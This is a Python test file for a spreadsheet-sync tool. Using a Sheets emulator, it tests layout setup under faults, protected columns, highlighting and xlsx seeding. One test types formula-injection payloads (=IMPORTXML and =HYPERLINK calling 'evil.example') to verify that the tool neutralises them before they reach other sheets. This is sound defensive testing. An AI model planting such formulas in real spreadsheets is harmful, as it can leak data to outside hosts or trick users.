"""`init` through the Google backend under faults, who may edit the protected columns, and
formulas an agent really typed (USER_ENTERED) never becoming formulas anywhere else.

The cycle's request kinds are faulted in tests/google/test_google.py; here the kinds only ``init``
sends (``spreadsheets.get``, ``spreadsheets.batchUpdate``).
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from openpyxl.utils import get_column_letter

from sheets_emulator import Emulator
from sheets_emulator.client import gspread_client
from sync import agent_sheet, service
from sync.backends.google.layout import protection_key
from sync.config import config_from_dict
from tests.google import test_google
from tests.google.test_google import (
    FakeTime,
    read_tab,
    sid,
    tighten,
)
from tests.world import World

# the fixtures of tests/google/test_google.py: a fresh emulator, a fake clock, a World on them
db_kind, emu, fake, world = (
    test_google.db_kind,
    test_google.emu,
    test_google.fake,
    test_google.world,
)

LAYOUT_FAULTS: dict[str, dict[str, Any]] = {
    "429": {"status": 429, "retry_after": 3},
    "500": {"status": 500},
    "503": {"status": 503},
    "timeout": {"status": None, "delay": 0.8},
    "lost answer": {"status": 500, "when": "after"},
}


def _set_up(world: World, spreadsheet: str) -> list[str]:
    layout = service.agent_layout()
    return world.backend.ensure_layout(
        spreadsheet,
        layout["tabs"],
        text_columns=layout["text_columns"],
        dropdowns=layout["dropdowns"],
        protected=layout["protected"],
        highlights=layout["highlights"],
        notes=layout["notes"],
        widths=layout["widths"],
    )


def _shape(emu: Emulator, spreadsheet: str) -> dict[str, Any]:
    """Tabs, headers, frozen rows, protections and highlights, without Google's random ids."""
    data = emu.spreadsheet(spreadsheet)
    out: dict[str, Any] = {}
    for sheet in data["sheets"]:
        title = sheet["properties"]["title"]
        out[title] = {
            "frozen": sheet["properties"]["gridProperties"].get("frozenRowCount", 0),
            "header": emu.get_values(spreadsheet, f"'{title}'!1:1"),
            "protected": sorted(
                (p["description"], p["range"].get("startColumnIndex"), p.get("warningOnly", False))
                for p in sheet.get("protectedRanges", [])
            ),
            "highlights": [
                (
                    [{k: v for k, v in g.items() if k != "sheetId"} for g in r["ranges"]],
                    r["booleanRule"]["condition"],
                )
                for r in sheet.get("conditionalFormats", [])
            ],
        }
    return out


@pytest.mark.parametrize("kind", ["sheets.spreadsheets.get", "sheets.spreadsheets.batchUpdate"])
@pytest.mark.parametrize("fault", list(LAYOUT_FAULTS))
def test_init_under_a_fault_sets_up_the_same_layout_once(
    world: World, emu: Emulator, fake: FakeTime, kind: str, fault: str
) -> None:
    """A fault on either request of the set-up: it retries (never resending a set-up whose
    answer was lost: adding a tab twice would fail), and ends with the layout a fault-free
    set-up makes, each tab once, no drift left."""
    clean = emu.create_spreadsheet("clean")
    expected = _set_up(world, clean)
    faulted = emu.create_spreadsheet("faulted")
    if fault == "timeout":
        tighten(world)  # only here: a loaded machine may exceed a short timeout anywhere
    spec = dict(LAYOUT_FAULTS[fault])
    status = spec.pop("status")
    if kind == "sheets.spreadsheets.get" and fault == "lost answer":
        spec.pop("when")  # a read has nothing to lose: fail it plainly
    injected = emu.faults.add(
        kind, status, times=1, match=lambda r: r.params.get("id") == faulted, **spec
    )
    fake.slept.clear()
    changes = _set_up(world, faulted)
    assert emu.wait_idle(5)
    assert injected.hits == 1
    assert changes == expected
    assert _shape(emu, faulted) == _shape(emu, clean)
    assert _set_up(world, faulted) == []  # no drift left
    if fault == "429":
        assert fake.slept == [3.0]


def test_protected_columns_name_the_service_account_as_their_only_editor(
    world: World, emu: Emulator
) -> None:
    customers = read_tab(emu, sid(world, "ali"), "Customers")
    mine = [
        p
        for p in customers["protectedRanges"]
        if p["description"].startswith("sheetsync: Customers/")
    ]
    assert {p["description"] for p in mine} == {
        protection_key("Customers", h)
        for h in ("Customer #", "Also tracked by", "Sync notes", "Commission %")
    }
    for p in mine:
        assert p["editors"]["users"] == [world.config.google.service_account_email]
        assert not p.get("warningOnly") and "endRowIndex" not in p["range"]


def test_a_due_follow_up_is_highlighted_by_the_spreadsheet_on_the_agents_own_columns(
    world: World, emu: Emulator
) -> None:
    """The rule names the columns where this agent's sheet has them (here the agent moved
    Status to the front), starts under the header, and a second set-up adds none."""
    layout = service.agent_layout()
    own = emu.create_spreadsheet("own order")
    headers = list(layout["tabs"]["Customers"])
    headers.remove("Status")
    wide = {"title": "Customers", "gridProperties": {"columnCount": 40}}
    emu.batch_update(own, [{"addSheet": {"properties": wide}}])
    emu.set_values(own, "'Customers'!A1", [["Status", *headers]])
    assert "highlighted due Customers/Next follow-up" in _set_up(world, own)
    customers = read_tab(emu, own, "Customers")
    (rule,) = customers["conditionalFormats"]
    column = 1 + headers.index("Next follow-up")
    letter = get_column_letter(column + 1)
    assert rule["ranges"] == [
        {
            "sheetId": customers["properties"]["sheetId"],
            "startRowIndex": 1,
            "startColumnIndex": column,
            "endColumnIndex": column + 1,
        }
    ]
    condition = rule["booleanRule"]["condition"]
    assert condition["type"] == "CUSTOM_FORMULA"
    (formula,) = [v["userEnteredValue"] for v in condition["values"]]
    assert formula.startswith(f"=AND(ISNUMBER(${letter}2),${letter}2<=TODAY(),NOT(OR($A2=")
    assert '"Completed"' in formula and '"Lost"' in formula and '"مكتمل"' in formula
    assert _set_up(world, own) == []


def test_a_tab_the_agent_made_gets_a_frozen_header_a_filter_and_header_notes_once(
    world: World, emu: Emulator
) -> None:
    """Not only the tabs init creates: a Customers tab the agent made (a title row above
    the header, no freeze, no filter) gets them where its header is; a second set-up, and
    a filter of the agent's own, change nothing."""
    layout = service.agent_layout()
    own = emu.create_spreadsheet("own tab")
    wide = {"title": "Customers", "gridProperties": {"columnCount": 40}}
    emu.batch_update(own, [{"addSheet": {"properties": wide}}])
    emu.set_values(own, "'Customers'!A1", [["My customers"], list(layout["tabs"]["Customers"])])
    changes = _set_up(world, own)
    assert {"froze the header row of Customers", "added a filter to Customers"} <= set(changes)
    assert "noted Customers/Email" in changes and "noted Customers/Commission %" in changes
    customers = read_tab(emu, own, "Customers", grid_data=True)
    sheet_id = customers["properties"]["sheetId"]
    assert customers["properties"]["gridProperties"]["frozenRowCount"] == 2
    assert customers["basicFilter"]["range"] == {"sheetId": sheet_id, "startRowIndex": 1}
    header = customers["data"][0]["rowData"][1]["values"]
    titles = [c["formattedValue"] for c in header]
    assert header[titles.index("Phone")]["note"] == agent_sheet.SHARED_NOTE
    assert header[titles.index("Commission %")]["note"] == agent_sheet.ADMIN_NOTE
    sizes = [m["pixelSize"] for m in customers["data"][0]["columnMetadata"]]
    assert set(sizes[: len(titles)]) == {100}  # the agent's columns keep their widths
    assert _set_up(world, own) == []
    mine = {"sheetId": sheet_id, "startRowIndex": 1, "endColumnIndex": 3}
    emu.batch_update(own, [{"setBasicFilter": {"filter": {"range": mine}}}])
    assert _set_up(world, own) == []
    assert read_tab(emu, own, "Customers")["basicFilter"]["range"] == mine


def test_formulas_an_agent_typed_are_never_formulas_in_the_master_or_a_colleagues_sheet(
    world: World, emu: Emulator
) -> None:
    """Ali types with USER_ENTERED, as the Sheets UI does: in his own sheet ``=…`` is a
    formula (his choice); what reaches the master and Sara's sheet is its value, as text."""
    world.type_rows("ali", [{"Phone": "01001234567"}])
    world.type_rows("sara", [{"Phone": "0100 123 4567", "Notes": "sara's own"}])
    ali = sid(world, "ali")
    header = world.grid("ali")[0]
    typed = {
        "Name": '=IMPORTXML("http://evil.example/x","//a")',
        "Notes": '=HYPERLINK("http://evil.example","click")',
        "Technical opinion": "=1+1",
    }
    for column, formula in typed.items():
        letter = chr(65 + header.index(column))
        emu.set_values(ali, f"Customers!{letter}2", [[formula]], "USER_ENTERED")
    assert emu.get_values(ali, "Customers!A2:Z2", "FORMULA")[0].count("=1+1") == 1
    world.cycle()
    world.cycle()

    def formulas(spreadsheet: str) -> list[Any]:
        data = emu.spreadsheet(spreadsheet, grid_data=True)
        return [
            cell["userEnteredValue"]
            for sheet in data["sheets"]
            for part in sheet.get("data", [])
            for row in part.get("rowData", [])
            for cell in row.get("values", [])
            if "formulaValue" in cell.get("userEnteredValue", {})
        ]

    assert formulas(world.config.master.spreadsheet) == []
    assert formulas(sid(world, "sara")) == []
    assert len(formulas(ali)) == 3  # Ali's own formulas are left as he typed them
    tracking = emu.get_values(world.config.master.spreadsheet, "Tracking", "FORMULA")
    opinion = tracking[0].index("Technical opinion")
    ali_row = next(row for row in tracking[1:] if "Ali Hassan" in row)
    assert str(ali_row[opinion]) == "2"  # =1+1 arrived as its value
    # =HYPERLINK(…) and =IMPORTXML(…) show #NAME? in Ali's sheet: an error is never data
    # (issue 10), so it reaches neither the master nor Sara; Ali's row says why.
    assert "#NAME?" not in ali_row
    notes = next(r for r in world.rows("ali") if r["Customer #"])["Sync notes"]
    assert "Name: shows the formula error #NAME?" in notes
    assert "Notes: shows the formula error #NAME?" in notes


# ---------------------------------------------------------------------------------------------
# sheetsync emulator: seeding from .xlsx and dumping back
# ---------------------------------------------------------------------------------------------


def _emulated_config(tmp_path: Path, url: str = "http://127.0.0.1:1") -> Any:
    return config_from_dict(
        {
            "database": {"url": f"sqlite:///{tmp_path / 'cli.db'}"},
            "sync": {"backend": "google"},
            "google": {
                "endpoint": url,
                "service_account_email": "emulator@sheetsync.local",
                "admins": ["boss@company.com"],
            },
            "master": {"spreadsheet": "1MasterSheet"},
            "agents": [
                {
                    "key": "ali",
                    "name": "Ali Hassan",
                    "email": "ali@company.com",
                    "spreadsheet": "1AliSheet",
                },
                {
                    "key": "sara",
                    "name": "Sara Ahmed",
                    "email": "sara@company.com",
                    "spreadsheet": "1SaraSheet",
                },
            ],
        },
        base_dir=tmp_path,
    )


def _ali_workbook(path: Path) -> Path:
    """Ali's offline workbook, as he kept it before moving to Google Sheets."""
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Customers"
    ws.append(["Name", "Phone", "Status", "Notes"])
    ws.append(["Ahmed Mohamed", "01001234567", "Contacted", "called twice"])
    ws["B2"].number_format = "@"
    wb.save(path)
    return path


def test_seeded_from_xlsx_synced_and_dumped_back(tmp_path: Path, engine: Any) -> None:
    import openpyxl

    from sync.backends.google import GoogleBackend, backend_from_config
    from sync.backends.google.emulated import (
        create_configured,
        dump_spreadsheets,
        seed_spreadsheets,
    )
    from sync.cycle import Cycle

    workbook = _ali_workbook(tmp_path / "ali.xlsx")
    with Emulator(seed=3) as emulator:
        config = _emulated_config(tmp_path, emulator.url)
        done = seed_spreadsheets(emulator, config, [f"ali={workbook}"])
        assert done == [f"seeded spreadsheet 1AliSheet (Ali Hassan customers) from {workbook}"]
        assert create_configured(emulator, config) == [
            "created spreadsheet 1MasterSheet (sheetsync master)",
            "created spreadsheet 1SaraSheet (Sara Ahmed customers)",
        ]
        shared = emulator.call(
            "drive.permissions.list", {"id": "1AliSheet"}, query={"fields": "*"}
        )["permissions"]
        assert "ali@company.com" in {p.get("emailAddress") for p in shared}
        again = seed_spreadsheets(emulator, config, [f"ali={workbook}"])
        assert again == [f"spreadsheet 1AliSheet already exists; {workbook} not loaded"]

        backend: GoogleBackend = backend_from_config(config)
        service.init(config, engine, backend)
        report = Cycle(config, engine, backend).run()
        assert report.agents_synced == 2

        written = dump_spreadsheets(emulator, config, str(tmp_path / "out"))
    assert sorted(Path(p).name for p in written) == ["ali.xlsx", "master.xlsx", "sara.xlsx"]
    rows = list(openpyxl.load_workbook(tmp_path / "out" / "ali.xlsx")["Customers"].values)
    header = list(rows[0])
    ahmed = dict(zip(header, rows[1], strict=False))
    assert (ahmed["Name"], ahmed["Phone"], ahmed["Notes"]) == (
        "Ahmed Mohamed",
        "01001234567",  # a text cell keeps its leading zero
        "called twice",
    )
    assert str(ahmed["Customer #"]).startswith("CUS-")
    master = openpyxl.load_workbook(tmp_path / "out" / "master.xlsx")
    assert master["Customers"]["B2"].value == "Ahmed Mohamed"


def test_seed_xlsx_names_a_missing_file(tmp_path: Path) -> None:
    from sync.backends.google.emulated import seed_spreadsheets
    from sync.errors import ConfigError

    with Emulator(seed=3) as emulator, pytest.raises(ConfigError, match="nope.xlsx does not"):
        seed_spreadsheets(emulator, _emulated_config(tmp_path), ["ali=nope.xlsx"])


def test_the_emulator_command_seeds_serves_saves_and_dumps(tmp_path: Path) -> None:
    config = tmp_path / "sheetsync.toml"
    config.write_text(
        "\n".join(
            [
                "[sync]",
                'backend = "google"',
                "[google]",
                'endpoint = "http://127.0.0.1:8765"',
                'service_account_email = "emulator@sheetsync.local"',
                "[master]",
                'spreadsheet = "1MasterSheet"',
                "[[agents]]",
                'key = "ali"',
                'name = "Ali Hassan"',
                'spreadsheet = "1AliSheet"',
            ]
        )
        + "\n",
        encoding="utf-8",
    )
    workbook = _ali_workbook(tmp_path / "ali.xlsx")
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "sync",
            "--config",
            str(config),
            "emulator",
            "--port",
            "0",
            "--state",
            str(tmp_path / "state"),
            "--seed-xlsx",
            f"ali={workbook}",
            "--dump-xlsx",
            str(tmp_path / "out"),
        ],
        stdout=subprocess.PIPE,
        text=True,
        env=env,
    )
    try:
        assert proc.stdout is not None
        lines: list[str] = []
        while not lines or "listening on" not in lines[-1]:
            line = proc.stdout.readline()
            assert line, "".join(lines)
            lines.append(line)
        url = re.search(r"http://127\.0\.0\.1:\d+", lines[-1])
        assert url, lines
        assert any("seeded spreadsheet 1AliSheet" in line for line in lines)
        gc = gspread_client(url.group(0))
        assert gc.open_by_key("1AliSheet").worksheet("Customers").acell("A2").value == (
            "Ahmed Mohamed"
        )
        gc.open_by_key("1MasterSheet").sheet1.update([["typed through the API"]], "A1")
    finally:
        proc.terminate()
        rest, _ = proc.communicate(timeout=10)
    assert "wrote" in rest, rest
    assert (tmp_path / "state" / "state.json").exists()
    import openpyxl

    master = openpyxl.load_workbook(tmp_path / "out" / "master.xlsx")
    assert master.worksheets[0]["A1"].value == "typed through the API"
    assert openpyxl.load_workbook(tmp_path / "out" / "ali.xlsx")["Customers"]["A2"].value == (
        "Ahmed Mohamed"
    )
